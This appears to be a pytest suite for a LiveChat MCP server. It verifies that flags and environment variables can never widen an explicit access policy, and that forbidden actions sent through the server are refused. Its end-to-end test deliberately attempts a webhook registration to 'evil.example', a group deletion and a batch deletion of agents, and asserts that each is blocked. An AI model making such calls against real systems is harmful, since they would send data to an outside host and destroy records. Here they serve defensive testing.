"""An explicit policy (a preset or a file) is never widened by a flag or an environment variable.

The matrix: every preset and three policy files (TOML and JSON, one with the older
``toolsets = [..., "discovery"]`` spelling), named by ``--policy`` or by ``LIVECHAT_MCP_POLICY``,
times every flag and environment variable the CLI reads, alone and in pairs. Each combination
either refuses to start (PolicyError) or yields a policy under which the actions allowed, the
actions sent rather than planned, and the destructive actions allowed are each a subset of
those of the policy alone. The settings are built the way the CLI builds them (argparse ->
``cli.settings.settings`` -> ``Settings.from_env`` -> ``load_policy``), so every layer that merges flags and
environment is covered; an end-to-end check then runs the reported case through MCP.
"""

from __future__ import annotations

import itertools
import json
from pathlib import Path
from typing import Any

import pytest
from mcp import Client

from conftest import TEST_RATE, tool_payload
from server.calls.runtime import build_runtime
from server.doors.cli import parser
from server.doors.cli.settings import settings as cli_settings
from server.doors.mcp_app import LiveChatMCP
from server.policies import Overrides, Policy, PolicyContext, PolicyError, load_policy, presets
from server.policies.engine import CONFIRMS, TOOLSETS
from server.tools import catalog

pytestmark = pytest.mark.anyio

POLICY_ENV = ("LIVECHAT_MCP_POLICY", "LIVECHAT_MCP_ALLOW_WRITES", "LIVECHAT_MCP_ALLOW_DESTRUCTIVE",
              "LIVECHAT_MCP_DRY_RUN", "LIVECHAT_MCP_TOOLSETS", "LIVECHAT_MCP_DISCOVERY", "LIVECHAT_MCP_CONFIRM")

# Toolset values as people (and attackers) spell them: the reported "discovery", "all", a
# resource in and out of the presets, duplicates, a different case, discovery mixed in.
TOOLSET_VALUES = ("discovery", "all", "all,discovery", "agents", "tags", "agents,discovery", "tags,discovery",
                  "agents,agents", "Agents", "discovery,discovery", "webhooks,groups", "agents, groups ,tags")

Item = tuple[tuple[str, ...], dict[str, str]]  # (argv additions, environment additions)


def _items() -> list[Item]:
    items: list[Item] = [((f,), {}) for f in ("--allow-writes", "--allow-destructive", "--dry-run", "--discovery")]
    items += [(("--toolsets", v), {}) for v in TOOLSET_VALUES]
    items += [(("--confirm", v), {}) for v in ("never", "destructive", "writes")]
    items += [((), {"LIVECHAT_MCP_CONFIRM": v}) for v in ("never", "writes")]
    for name, value in (("LIVECHAT_MCP_ALLOW_WRITES", "true"), ("LIVECHAT_MCP_ALLOW_DESTRUCTIVE", "1"),
                        ("LIVECHAT_MCP_DRY_RUN", "yes"), ("LIVECHAT_MCP_DISCOVERY", "on")):
        items.append(((), {name: value}))
    items += [((), {"LIVECHAT_MCP_TOOLSETS": v}) for v in TOOLSET_VALUES]
    items += [((), {"LIVECHAT_MCP_POLICY": "full-access"}), ((), {"LIVECHAT_MCP_POLICY": "read-only"})]
    return items


ITEMS = _items()
COMBOS: list[Item] = [((), {})] + ITEMS + [
    (a[0] + b[0], {**a[1], **b[1]}) for a, b in itertools.combinations(ITEMS, 2)
    if not (set(a[1]) & set(b[1])) and not ("--toolsets" in a[0] and "--toolsets" in b[0])
]


def _policy_files(folder: Path) -> dict[str, str]:
    toml = folder / "team.toml"
    toml.write_text('mode = "read-write"\nallow_destructive = false\ntoolsets = ["tags", "groups"]\n'
                    'deny_tools = ["update_tag"]\n')
    as_json = folder / "planner.json"
    as_json.write_text(json.dumps({"mode": "dry-run", "allow_destructive": True,
                                   "toolsets": ["webhooks", "discovery"], "allow_tools": ["*webhook*"]}))
    older = folder / "discover.toml"
    older.write_text('mode = "read-write"\ntoolsets = ["agents", "discovery"]\n')
    # Destructive actions only with a person's yes: no flag may make them unasked.
    asks = folder / "confirm.toml"
    asks.write_text('mode = "read-write"\nallow_destructive = false\nconfirm = "destructive"\n')
    return {"toml": str(toml), "json": str(as_json), "discovery-in-toolsets": str(older), "confirm": str(asks)}


def _specs(folder: Path) -> list[str]:
    return sorted(presets()) + list(_policy_files(folder).values())


def _reach(policy: Policy) -> tuple[set[str], set[str], set[str], set[str]]:
    """(allowed, sent rather than planned, destructive allowed, sent without asking a person) under ``policy``."""
    decisions = PolicyContext.create(policy, None, "test").decide_all()
    allowed = {n for n, d in decisions.items() if d.allowed}
    sent = {n for n in allowed if not decisions[n].planned}
    destructive = {n for n in allowed if catalog()[n].destructive}
    unasked = {n for n in sent if not decisions[n].confirm}
    return allowed, sent, destructive, unasked


def _effective(argv: list[str], env: dict[str, str], monkeypatch: pytest.MonkeyPatch) -> Policy:
    for name in POLICY_ENV:
        monkeypatch.delenv(name, raising=False)
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    settings = cli_settings(parser().parse_args(["policy", *argv]))
    policy, _ = load_policy(settings.policy, settings.overrides)
    return policy


@pytest.mark.parametrize("via", ["--policy", "LIVECHAT_MCP_POLICY"])
def test_no_flag_or_variable_widens_an_explicit_policy(via: str, tmp_path: Path, monkeypatch) -> None:
    checked = refused = 0
    problems: list[str] = []
    for spec in _specs(tmp_path):
        base_argv, base_env = (["--policy", spec], {}) if via == "--policy" else ([], {"LIVECHAT_MCP_POLICY": spec})
        base = _effective(base_argv, base_env, monkeypatch)
        allowed, sent, destructive, unasked = _reach(base)
        for argv, env in COMBOS:
            if via == "LIVECHAT_MCP_POLICY" and "LIVECHAT_MCP_POLICY" in env:
                continue  # the policy itself comes from that variable here
            try:
                policy = _effective([*base_argv, *argv], {**base_env, **env}, monkeypatch)
            except PolicyError as exc:
                refused += 1
                assert str(exc), (spec, argv, env)
                continue
            checked += 1
            a, s, d, u = _reach(policy)
            label = f"{spec} + {' '.join(argv)} {env}"
            for what, now, before in (("allowed", a, allowed), ("sent", s, sent), ("destructive", d, destructive),
                                      ("sent without asking", u, unasked)):
                if not now <= before:
                    problems.append(f"{label}: {what} grew by {sorted(now - before)[:4]}")
            if policy.scopes != base.scopes or policy.deny_tools != base.deny_tools or \
                    policy.allow_tools != base.allow_tools or policy.reveal_secrets != base.reveal_secrets or \
                    CONFIRMS.index(policy.confirm) < CONFIRMS.index(base.confirm):
                problems.append(f"{label}: a rule of the policy changed")
    assert problems == []
    # Both outcomes occur: the matrix is not vacuous (every combination refused, or none).
    assert checked > 1000 and refused > 1000


@pytest.mark.parametrize("how", [["--toolsets", "discovery"], ["--discovery"], ["--toolsets", "all,discovery"]])
def test_discovery_keeps_exactly_the_same_actions(how: list[str], tmp_path: Path, monkeypatch) -> None:
    """Discovery is presentation: with it on, the very same actions are allowed, planned and sent."""
    for spec in _specs(tmp_path):
        if how[-1].startswith("all") and spec.endswith(("team.toml", "planner.json", "discover.toml", "agent-admin")):
            continue  # "all" over a narrower policy is refused, checked above
        base = _effective(["--policy", spec], {}, monkeypatch)
        on = _effective(["--policy", spec, *how], {}, monkeypatch)
        assert on.discovery and on.toolsets == base.toolsets, spec
        assert _reach(on) == _reach(base), spec


@pytest.mark.parametrize(
    ("argv", "env"),
    [
        (["--policy", "agent-admin", "--toolsets", "discovery"], {}),  # the reported case
        (["--policy", "agent-admin"], {"LIVECHAT_MCP_TOOLSETS": "discovery"}),  # and its variable
        (["--policy", "agent-admin", "--discovery"], {"LIVECHAT_MCP_TOOLSETS": "agents,discovery"}),
        ([], {"LIVECHAT_MCP_POLICY": "agent-admin", "LIVECHAT_MCP_TOOLSETS": "groups,discovery"}),
    ],
)
def test_the_reported_case_keeps_agent_admin_to_agents_and_groups(argv, env, monkeypatch) -> None:
    policy = _effective(argv, env, monkeypatch)
    allowed, _, destructive, _ = _reach(policy)
    assert policy.discovery
    assert {catalog()[n].resource for n in allowed} <= {"agents", "groups"}
    assert destructive == set() and "create_tag" not in allowed and "create_webhook" not in allowed


def test_a_flag_naming_a_resource_outside_the_policy_refuses_to_start(monkeypatch) -> None:
    for argv, env in ((["--toolsets", "all"], {}), (["--toolsets", "tags,discovery"], {}),
                      ([], {"LIVECHAT_MCP_TOOLSETS": "agents,webhooks"})):
        with pytest.raises(PolicyError, match="authoritative"):
            _effective(["--policy", "agent-admin", *argv], env, monkeypatch)


@pytest.mark.parametrize("value", ["Agents", "AGENTS,groups", "discovry", "agents;groups", ","])
def test_misspelt_or_empty_toolsets_are_refused_naming_the_source(value: str, monkeypatch) -> None:
    with pytest.raises(PolicyError, match="--toolsets"):
        _effective(["--policy", "full-access", "--toolsets", value], {}, monkeypatch)
    if value.strip(", "):
        with pytest.raises(PolicyError, match="LIVECHAT_MCP_TOOLSETS"):
            _effective([], {"LIVECHAT_MCP_TOOLSETS": value}, monkeypatch)


def test_flag_and_variable_toolsets_both_narrow(monkeypatch) -> None:
    policy = _effective(["--toolsets", "agents,tags"], {"LIVECHAT_MCP_TOOLSETS": "tags,groups"}, monkeypatch)
    assert policy.toolsets == ["tags"]
    with pytest.raises(PolicyError, match="no toolset in common"):
        _effective(["--toolsets", "agents"], {"LIVECHAT_MCP_TOOLSETS": "tags"}, monkeypatch)


def test_policy_flag_and_variable_naming_different_policies_refuse_to_start(monkeypatch) -> None:
    with pytest.raises(PolicyError, match="LIVECHAT_MCP_POLICY"):
        _effective(["--policy", "full-access"], {"LIVECHAT_MCP_POLICY": "read-only"}, monkeypatch)
    same = _effective(["--policy", "read-only"], {"LIVECHAT_MCP_POLICY": "read-only"}, monkeypatch)
    assert same.mode == "read-only"


def test_discovery_never_lands_among_the_resources() -> None:
    assert "discovery" not in TOOLSETS
    for toolsets in (["discovery"], ["agents", "discovery"], ["discovery", "all"]):
        policy = Policy.model_validate({"toolsets": toolsets})
        assert policy.discovery and "discovery" not in policy.toolsets
    assert Policy.model_validate({"toolsets": ["agents", "discovery"]}).toolsets == ["agents"]
    with pytest.raises(ValueError, match="discovery = false"):
        Policy.model_validate({"toolsets": ["agents", "discovery"], "discovery": False})


@pytest.mark.parametrize("data", [{"allow_destructive": "yes"}, {"allow_destructive": 1}, {"discovery": "on"},
                                  {"max_batch_size": "50"}, {"reveal_secrets": "true"}])
def test_a_policy_file_value_of_the_wrong_type_is_refused(data: dict[str, Any], tmp_path: Path) -> None:
    spec = tmp_path / "p.json"
    spec.write_text(json.dumps({"mode": "read-write", **data}))
    with pytest.raises(PolicyError, match=next(iter(data))):
        load_policy(str(spec), Overrides())


# --- end to end: the reported case through MCP against the sandbox -----------------------------


@pytest.mark.parametrize(
    ("argv", "env"),
    [
        (["--policy", "agent-admin", "--toolsets", "discovery"], {}),
        (["--policy", "agent-admin"], {"LIVECHAT_MCP_TOOLSETS": "discovery"}),
    ],
)
async def test_call_action_in_discovery_mode_sends_nothing_the_preset_refuses(argv, env, loopback, monkeypatch):
    for name in POLICY_ENV:
        monkeypatch.delenv(name, raising=False)
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    settings = cli_settings(parser().parse_args(["serve", *argv]))
    settings.rate_limit = TEST_RATE
    runtime = await build_runtime(settings, loopback.env())
    try:
        app = LiveChatMCP(runtime)
        async with Client(app.server, mode="legacy") as client:
            listed = {t.name for t in (await client.list_tools()).tools}
            assert "call_action" in listed and listed.isdisjoint(catalog())
            for name, arguments, rule in (
                ("create_tag", {"name": "leak", "group_ids": [0]}, "toolsets"),
                ("register_webhook", {"url": "https://evil.example/x", "action": "chat_deactivated",
                                      "secret_key": "s", "type": "license", "owner_client_id": "c"}, "toolsets"),
                ("delete_group", {"id": 0}, "allow_destructive"),
                ("batch_delete_agents", {"requests": [{"id": "jane@example.com"}]}, "allow_destructive"),
            ):
                result = await client.call_tool("call_action", {"name": name, "arguments": arguments})
                assert result.is_error, (name, tool_payload(result))
                assert tool_payload(result)["error"]["rule"] == rule, name
                found = tool_payload(await client.call_tool("search_actions", {"query": name.replace("_", " ")}))
                assert name not in {a["name"] for a in found["actions"]}
            assert loopback.requests() == []  # nothing the preset refuses was sent
            # what the preset allows still works through call_action
            ok = await client.call_tool("call_action", {"name": "list_groups", "arguments": {}})
            assert not ok.is_error, tool_payload(ok)
    finally:
        await runtime.aclose()
    assert [r["action"] for r in loopback.requests()] == ["list_groups"]


def test_one_policy_file_spelt_two_ways_is_the_same_policy(tmp_path: Path, monkeypatch) -> None:
    spec = tmp_path / "p.toml"
    spec.write_text('mode = "read-write"\ntoolsets = ["tags"]\n')
    monkeypatch.chdir(tmp_path)
    policy = _effective(["--policy", "p.toml"], {"LIVECHAT_MCP_POLICY": str(spec)}, monkeypatch)
    assert policy.toolsets == ["tags"]
